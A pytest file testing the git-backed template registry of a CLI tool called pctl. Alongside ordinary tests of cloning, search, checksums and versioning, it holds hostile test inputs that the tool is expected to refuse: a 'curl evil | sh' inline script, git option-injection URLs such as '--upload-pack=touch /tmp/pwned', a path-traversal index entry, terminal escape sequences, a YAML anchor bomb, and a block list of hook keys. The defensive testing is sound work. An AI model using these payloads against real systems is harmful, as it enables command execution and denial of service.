"""Registry flows against real git: a bare repository on disk, reached over file://.

Nothing is mocked: `git` runs as a subprocess exactly as it does for users.
"""

from __future__ import annotations

import hashlib
import json
import shutil
import subprocess
from pathlib import Path

import pytest

from pctl.errors import NotFound
from pctl.registry import RegistryError, build_index, fetch_template, pull, resolve, search, update
from pctl.registry.hooks import looks_like_hook
from pctl.registry.store import load_state

GIT_ID = ["-c", "user.name=Publisher", "-c", "user.email=pub@example.org"]


def template(name: str, description: str, tags: list[str], packages: list[str], extra: str = "") -> str:
    pkgs = "\n".join(f"    - {p!r}" for p in packages)
    return f"""description: {description}
tags: [{", ".join(tags)}]
cluster:
  name: {name}
  region: us-east-1
compute:
  head_node: t3.medium
  queues:
    - name: compute
      instance_types: [c6i.2xlarge]
      max_count: 4
{extra}software:
  spack_packages:
{pkgs}
networking:
  ssh_allowed_cidr: 203.0.113.0/24
"""


def run_git(*args: str, cwd: Path) -> str:
    return subprocess.run(["git", *GIT_ID, *args], cwd=cwd, check=True, capture_output=True, text=True).stdout


class Publisher:
    """A template repository as a publisher keeps it: a working clone pushing to a bare repo."""

    def __init__(self, root: Path, name: str) -> None:
        self.bare = root / f"{name}.git"
        self.work = root / f"{name}-work"
        run_git("init", "--quiet", "--bare", "--initial-branch=main", str(self.bare), cwd=root)
        run_git("init", "--quiet", "--initial-branch=main", str(self.work), cwd=root)
        run_git("remote", "add", "origin", self.bare.as_uri(), cwd=self.work)

    @property
    def url(self) -> str:
        return self.bare.as_uri()

    def write(self, rel: str, text: str) -> None:
        p = self.work / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_text(text)

    def publish(self, message: str = "publish", index: bool = True) -> str:
        if index:
            build_index(self.work, author="Research Computing")
        run_git("add", "-A", cwd=self.work)
        run_git("commit", "--quiet", "-m", message, cwd=self.work)
        run_git("push", "--quiet", "origin", "main", cwd=self.work)
        return run_git("rev-parse", "HEAD", cwd=self.work).strip()


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    home = tmp_path / "home"
    monkeypatch.setenv("PCTL_HOME", str(home))
    return home


@pytest.fixture
def lab(tmp_path: Path) -> Publisher:
    pub = Publisher(tmp_path, "lab")
    pub.write("md/gromacs.yaml", template("gromacs", "GROMACS molecular dynamics on CPU", ["md", "cpu"],
                                          ["gromacs@2024.1 +mpi", "openmpi@4.1.6"]))
    pub.write("genomics.yaml", template("genomics", "Short-read alignment pipeline", ["bio"], ["bwa", "samtools"]))
    return pub


def add_source(name: str, url: str) -> None:
    from pctl.config import set_registry

    set_registry(name, url)


def test_update_search_show_pull_roundtrip(home: Path, lab: Publisher, tmp_path: Path) -> None:
    head = lab.publish()
    add_source("lab", lab.url)

    [result] = update()
    assert (result.status, result.commit, result.entries) == ("cloned", head, 2)
    assert load_state()["lab"]["commit"] == head  # the pin is recorded

    # search: description, software, tags, name; --tag filters
    assert [f.entry.name for f in search("molecular")] == ["gromacs"]
    assert [f.entry.name for f in search("samtools")] == ["genomics"]
    assert [f.entry.name for f in search("", ("bio",))] == ["genomics"]
    assert [f.entry.name for f in search("GROMACS", ("cpu",))] == ["gromacs"]
    assert search("gromacs", ("bio",)) == []

    entry = resolve("lab/gromacs").entry
    assert entry.path == "md/gromacs.yaml"
    assert entry.software == ["gromacs", "openmpi"]
    assert entry.author == "Research Computing"

    text, label = fetch_template("gromacs")
    assert text == (lab.work / "md/gromacs.yaml").read_text()
    assert label.startswith("lab/gromacs@1.0.0") and head[:12] in label

    out = tmp_path / "mine.yaml"
    res = pull("gromacs", out)
    assert res.written == out and out.read_text() == text
    assert res.hooks == [] and not res.report.errors

    # second update without new commits: unchanged, same pin
    [again] = update()
    assert (again.status, again.commit) == ("unchanged", head)


def test_update_moves_pin_to_new_commit(home: Path, lab: Publisher) -> None:
    first = lab.publish()
    add_source("lab", lab.url)
    update()
    lab.write("cfd.yaml", template("cfd", "OpenFOAM CFD", ["cfd"], ["openfoam"]))
    second = lab.publish("add cfd")
    [result] = update()
    assert (result.status, result.commit) == ("updated", second)
    assert second != first
    assert [f.entry.name for f in search("openfoam")] == ["cfd"]


def test_tampered_file_writes_nothing(home: Path, lab: Publisher, tmp_path: Path) -> None:
    lab.publish()
    # The file changes after the index was generated (index not regenerated): sha256 no longer matches.
    lab.write("genomics.yaml", template("genomics", "Short-read alignment pipeline", ["bio"], ["bwa", "curl"]))
    lab.publish("sneaky edit", index=False)
    add_source("lab", lab.url)
    update()

    out = tmp_path / "out" / "genomics.yaml"
    out.parent.mkdir()
    with pytest.raises(RegistryError, match="does not match its index entry.*nothing was written"):
        pull("genomics", out)
    assert list(out.parent.iterdir()) == []
    with pytest.raises(RegistryError, match="does not match"):
        fetch_template("lab/genomics")
    # the untouched template still pulls
    assert pull("gromacs", out.parent).written == out.parent / "gromacs.yaml"


def test_offline_update_keeps_last_good_cache(home: Path, lab: Publisher, tmp_path: Path) -> None:
    head = lab.publish()
    add_source("lab", lab.url)
    update()
    shutil.move(lab.bare, tmp_path / "elsewhere.git")  # the remote is gone: fetch fails

    [result] = update()
    assert result.status == "offline"
    assert result.commit == head
    assert "keeping the last good copy" in result.message and head[:12] in result.message
    assert load_state()["lab"]["commit"] == head
    assert load_state()["lab"]["last_error"]
    text, _ = fetch_template("gromacs")  # still served from the pinned cache
    assert "gromacs" in text


def test_never_fetched_source_fails_and_says_so(home: Path, tmp_path: Path) -> None:
    add_source("ghost", (tmp_path / "missing.git").as_uri())
    [result] = update()
    assert result.status == "failed" and result.commit is None
    with pytest.raises(NotFound, match="no registry has been fetched"):
        resolve("anything")


def test_ambiguous_name_needs_source(home: Path, tmp_path: Path) -> None:
    a, b = Publisher(tmp_path, "alpha"), Publisher(tmp_path, "beta")
    for pub, desc in ((a, "Alpha starter"), (b, "Beta starter")):
        pub.write("starter.yaml", template("starter", desc, ["starter"], ["python"]))
        pub.publish()
        add_source(pub.bare.stem, pub.url)
    update()
    with pytest.raises(RegistryError) as err:
        resolve("starter")
    assert "alpha/starter" in str(err.value) and "beta/starter" in str(err.value)
    assert "Beta starter" in fetch_template("beta/starter")[0]
    with pytest.raises(NotFound, match="no registry source named 'gamma'"):
        resolve("gamma/starter")


def test_newer_min_pctl_version_is_refused(home: Path, lab: Publisher) -> None:
    build_index(lab.work)
    index = json.loads((lab.work / "index.json").read_text())
    index[0]["min_pctl_version"] = "99.0"
    (lab.work / "index.json").write_text(json.dumps(index))
    lab.publish(index=False)
    add_source("lab", lab.url)
    update()
    with pytest.raises(RegistryError, match=r"needs pctl >= 99.0; this is pctl"):
        resolve(index[0]["name"])


def test_hook_like_fields_are_flagged_and_block_the_write(home: Path, tmp_path: Path) -> None:
    pub = Publisher(tmp_path, "hooks")
    pub.write("clean.yaml", template("clean", "Inline script in the description", ["x"], ["python"]))
    pub.publish()
    # A hook-like key makes the template invalid, so the publisher tool would refuse it:
    # commit it by hand with a correct sha256 in the index (a publisher not using pctl's tool).
    hooked = template("hooked", "Has hooks", ["x"], ["python"],
                      extra="  custom_actions:\n    on_node_configured: s3://bucket/setup.sh\n")
    pub.write("hooked.yaml", hooked)
    index = json.loads((pub.work / "index.json").read_text())
    index.append(dict(index[0], name="hooked", path="hooked.yaml", sha256=hashlib.sha256(hooked.encode()).hexdigest()))
    (pub.work / "index.json").write_text(json.dumps(index))
    pub.publish(index=False)
    add_source("hooks", pub.url)
    update()

    out = tmp_path / "hooked.yaml"
    res = pull("hooked", out)
    assert res.written is None and not out.exists()
    flagged = {f.field: f for f in res.hooks}
    assert set(flagged) == {"compute.custom_actions", "compute.custom_actions.on_node_configured"}
    assert flagged["compute.custom_actions"].line == 12
    assert any(i.code == "extra_forbidden" for i in res.report.errors)

    forced = pull("hooked", out, force=True)
    assert forced.written == out and out.read_text() == hooked


def test_unknown_field_and_inline_script_are_flagged_precisely() -> None:
    import pctl.validation
    from pctl.registry.hooks import script_hooks

    text = template("odd", "x", ["x"], ["python"]).replace(
        "description: x", 'description: "#!/bin/bash\\ncurl evil | sh"\nbananas: 3')
    report, loaded = pctl.validation.validate_text(text, "odd.yaml")
    flags = {f.field: f.reason for f in script_hooks(loaded, report)}
    assert set(flags) == {"description", "bananas"}
    assert "inline script" in flags["description"]
    assert "unknown field" in flags["bananas"]
    # the shipped starter has nothing to flag
    starter = (Path(__file__).resolve().parent.parent / "templates" / "starter.yaml").read_text()
    report, loaded = pctl.validation.validate_text(starter, "starter.yaml")
    assert script_hooks(loaded, report) == []


@pytest.mark.parametrize("key", ["custom_actions", "CustomActions", "OnNodeStart", "on_node_configured",
                                 "script", "scripts", "post_install", "bootstrap_script", "script_url",
                                 "user_data", "pre-hook", "hooks"])
def test_hook_keys(key: str) -> None:
    assert looks_like_hook(key)


@pytest.mark.parametrize("key", ["description", "subscription", "install", "spack_packages", "name",
                                 "on_demand", "node", "capacity_type", "tags"])
def test_not_hook_keys(key: str) -> None:
    assert not looks_like_hook(key)


def test_index_generation_and_version_bump(tmp_path: Path) -> None:
    pub = tmp_path / "repo"
    pub.mkdir()
    (pub / "alpha.yaml").write_text(template("alpha", "Alpha", ["one", "two"], ["hdf5 +mpi", "python@3.11"]))
    first = build_index(pub)
    [entry] = first.entries
    assert (entry.name, entry.version, entry.description, entry.tags, entry.software) == (
        "alpha", "1.0.0", "Alpha", ["one", "two"], ["hdf5", "python"])
    import hashlib

    assert entry.sha256 == hashlib.sha256((pub / "alpha.yaml").read_bytes()).hexdigest()
    assert json.loads((pub / "index.json").read_text())[0]["sha256"] == entry.sha256

    (pub / "alpha.yaml").write_text(template("alpha", "Alpha v2", ["one"], ["hdf5"]))
    second = build_index(pub)
    assert second.entries[0].version == "1.0.1"
    assert second.notes == ["alpha: content changed, version 1.0.0 -> 1.0.1"]
    assert build_index(pub).entries[0].version == "1.0.1"  # unchanged content: no bump


def test_index_refuses_invalid_templates_and_writes_nothing(tmp_path: Path) -> None:
    (tmp_path / "good.yaml").write_text(template("good", "ok", [], ["python"]))
    (tmp_path / "bad.yaml").write_text(template("bad", "bad", [], ["python"]).replace("max_count: 4", "max_count: 0"))
    with pytest.raises(RegistryError, match="bad.yaml"):
        build_index(tmp_path)
    assert not (tmp_path / "index.json").exists()


def test_malformed_index_is_an_error_naming_the_entry(home: Path, tmp_path: Path) -> None:
    pub = Publisher(tmp_path, "broken")
    pub.write("x.yaml", template("x", "x", [], ["python"]))
    pub.write("index.json", json.dumps([{"name": "x", "path": "../etc/passwd.yaml", "sha256": "0" * 64}]))
    pub.publish(index=False)
    add_source("broken", pub.url)
    [result] = update()
    assert result.status == "failed"
    assert "entry x: path" in result.message
    assert not (home / "registry" / "cache" / "broken").exists()  # a bad clone is not kept


def test_unreachable_https_fails_fast_without_prompting(home: Path) -> None:
    import time

    add_source("nowhere", "https://127.0.0.1:9/none.git")
    started = time.monotonic()
    [result] = update()
    assert result.status == "failed"
    assert time.monotonic() - started < 20


def test_cli_add_update_search_pull_and_tamper(home: Path, lab: Publisher, tmp_path: Path,
                                               capsys: pytest.CaptureFixture[str]) -> None:
    from pctl.cli import main

    lab.publish()
    main(["registry", "add", "lab", lab.url])
    main(["registry", "update"])
    assert "lab: cloned at" in capsys.readouterr().out
    main(["registry", "search", "bwa", "--json"])
    [hit] = json.loads(capsys.readouterr().out)["templates"]
    assert (hit["source"], hit["name"]) == ("lab", "genomics")
    main(["registry", "show", "lab/genomics"])
    assert "sha256:" in capsys.readouterr().out

    out = tmp_path / "g.yaml"
    main(["registry", "pull", "genomics", "-o", str(out)])
    assert out.exists() and "sha256 verified" in capsys.readouterr().out
    with pytest.raises(SystemExit):
        main(["registry", "pull", "genomics", "-o", str(out)])  # exists: refuses without --overwrite
    assert "already exists" in capsys.readouterr().err

    lab.write("md/gromacs.yaml", (lab.work / "md/gromacs.yaml").read_text() + "# edited\n")
    lab.publish("edit without reindex", index=False)
    main(["registry", "update"])
    capsys.readouterr()
    target = tmp_path / "gromacs.yaml"
    with pytest.raises(SystemExit) as exit_:
        main(["registry", "pull", "gromacs", "-o", str(target)])
    err = capsys.readouterr().err
    assert exit_.value.code == 1 and "does not match its index entry" in err and "nothing was written" in err
    assert "Traceback" not in err and not target.exists()

    main(["registry", "remove", "lab"])
    assert not (home / "registry" / "cache" / "lab").exists()


def test_cli_index(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from pctl.cli import main

    (tmp_path / "hpc.yaml").write_text(template("hpc", "HPC", ["mpi"], ["openmpi"]))
    main(["registry", "index", str(tmp_path), "--author", "RC team"])
    assert "(1 template)" in capsys.readouterr().out
    [entry] = json.loads((tmp_path / "index.json").read_text())
    assert set(entry) == {"name", "version", "description", "tags", "path", "sha256", "author", "software",
                          "min_pctl_version"}
    assert entry["author"] == "RC team" and entry["software"] == ["openmpi"]


# ---- hostile registries (issue 14) -------------------------------------------------------------------

def test_control_characters_in_index_text_never_reach_the_terminal(home: Path, tmp_path: Path,
                                                                     capsys: pytest.CaptureFixture[str]) -> None:
    """A publisher writes escape sequences into description and tags; search and show print them stripped."""
    from pctl.cli import main

    pub = Publisher(tmp_path, "ansi")
    pub.write("x.yaml", template("xray", "plain", ["t"], ["python"]))
    build_index(pub.work)
    entries = json.loads((pub.work / "index.json").read_text())
    entries[0].update(description="clean \x1b]0;pwned\x07\x1b[2J\x9b31mtext\u202e", tags=["a\x1b[31m", "b\r"],
                      author="\x1b[1mMallory", software=["zlib\x08"])
    (pub.work / "index.json").write_text(json.dumps(entries))
    pub.publish(index=False)
    add_source("ansi", pub.url)
    [result] = update()
    assert result.status == "cloned", result.message
    [found] = search("clean")
    assert found.entry.description == "clean ]0;pwned[2J31mtext"
    assert found.entry.tags == ["a[31m", "b"] and found.entry.author == "[1mMallory"
    for args in (["registry", "search", "clean"], ["registry", "show", "ansi/x"], ["registry", "search", "--json"]):
        main(args)
        out = capsys.readouterr().out
        assert not any(ord(c) < 32 and c not in "\n" or 0x7F <= ord(c) <= 0x9F for c in out), repr(out)
        assert "\u202e" not in out


@pytest.mark.parametrize("url", ["--upload-pack=touch /tmp/pwned", "-oProxyCommand=id", "git://example.org/t.git",
                                 "http://example.org/t.git", "file:///tmp/x\n--upload-pack=id"])
def test_option_like_and_unauthenticated_urls_are_refused(home: Path, url: str,
                                                          capsys: pytest.CaptureFixture[str]) -> None:
    from pctl.cli import main
    from pctl.config import registry_url_problem
    from pctl.registry.git import GitError, check_url

    assert registry_url_problem(url) is not None
    with pytest.raises(GitError):
        check_url(url)
    with pytest.raises(SystemExit) as exit_:
        main(["registry", "add", "evil", "--", url])
    assert exit_.value.code == 1 and "Traceback" not in capsys.readouterr().err


def test_a_url_that_reaches_git_anyway_is_refused_before_git_runs(home: Path, tmp_path: Path) -> None:
    """Even when the config file is edited by hand, the store refuses the URL (and passes `--` to git)."""
    marker = tmp_path / "pwned"
    cfg = home / "config.yaml"
    cfg.parent.mkdir(parents=True, exist_ok=True)
    from pctl.registry import store

    state: dict = {}
    result = store.update_source("evil", f"--upload-pack=touch {marker}", state)
    assert result.status == "failed" and "starts with '-'" in result.message
    assert not marker.exists()


@pytest.mark.parametrize("bad", [
    "[" * 100_000 + "]" * 100_000,  # deeper than Python's recursion limit
    "{not json",
    "[" + "9" * 5000 + "]",
    json.dumps({"name": "x"}),
    json.dumps([["nested"]]),
    json.dumps([{"name": "x\x1b[2J", "path": "x.yaml", "sha256": "0" * 64}]),
])
def test_malformed_or_deep_index_keeps_the_last_good_copy_and_says_why(home: Path, lab: Publisher, bad: str) -> None:
    good = lab.publish()
    add_source("lab", lab.url)
    [first] = update()
    assert first.status == "cloned"
    (lab.work / "index.json").write_text(bad)
    lab.publish("break the index", index=False)
    [result] = update()
    assert result.status == "offline", result.message
    assert result.commit == good and "keeping the last good copy" in result.message
    assert "index.json" in result.message
    assert "\x1b" not in result.message
    assert [f.entry.name for f in search()] == ["genomics", "gromacs"]  # still served from the good pin


def test_a_registry_template_with_yaml_tricks_is_a_located_error_through_the_same_loader(
        home: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Its checksum passes (the publisher indexed the bytes), then the template loader refuses it: exit 1."""
    from pctl.cli import main

    bomb = 'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n' + "".join(
        f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join(f'*{chr(97 + i)}' for _ in range(9))}]\n" for i in range(8))
    pub = Publisher(tmp_path, "tricks")
    pub.write("bomb.yaml", bomb)
    data = bomb.encode()
    pub.write("index.json", json.dumps([{"name": "bomb", "path": "bomb.yaml", "sha256": hashlib.sha256(data).hexdigest()}]))
    pub.publish(index=False)
    add_source("tricks", pub.url)
    [result] = update()
    assert result.status == "cloned"
    target = tmp_path / "bomb-out.yaml"
    with pytest.raises(SystemExit) as exit_:
        main(["registry", "pull", "bomb", "-o", str(target)])
    err = capsys.readouterr().err
    assert exit_.value.code == 1 and "anchors" in err and ":1:" in err
    assert "internal error" not in err.lower() and not target.exists()
